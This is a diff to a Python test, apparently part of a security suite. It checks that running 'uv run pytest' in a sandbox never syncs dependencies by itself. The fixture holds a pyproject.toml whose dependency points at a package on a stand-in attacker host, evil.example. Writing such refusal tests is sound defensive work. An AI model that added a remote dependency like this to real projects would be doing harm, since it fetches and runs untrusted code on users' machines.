@@ -36,9 +36,11 @@ def test_smuggling_test_command_is_refused(workspace: Path, sibling: Path, comma
 @pytest.mark.parametrize("sandbox", ["required", "off"])
 def test_uv_run_never_syncs_on_its_own(workspace: Path, sibling: Path, sandbox: str) -> None:
     """`--test "uv run pytest"` without --install must not fetch what --install would have refused."""
-    files = {"pyproject.toml": '[project]\nname = "a"\nversion = "0.1.0"\nrequires-python = ">=3.11"\n'
-                               'dependencies = ["kodr-probe @ https://evil.example/kodr_probe-1.0.tar.gz"]\n',
-             "test_probe.py": "def test_probe():\n    import kodr_probe\n"}
+    files = {
+        "pyproject.toml": '[project]\nname = "a"\nversion = "0.1.0"\nrequires-python = ">=3.11"\n'
+        'dependencies = ["kodr-probe @ https://evil.example/kodr_probe-1.0.tar.gz"]\n',
+        "test_probe.py": "def test_probe():\n    import kodr_probe\n",
+    }
     o = hostile_run(workspace, sibling, files, test="uv run pytest", sandbox=sandbox)
     assert (o.state, o.reason) == ("failed", "tests_failed") or o.state == "failed", o.result.err
     tests = json.dumps(o.artifact("tests.json"))
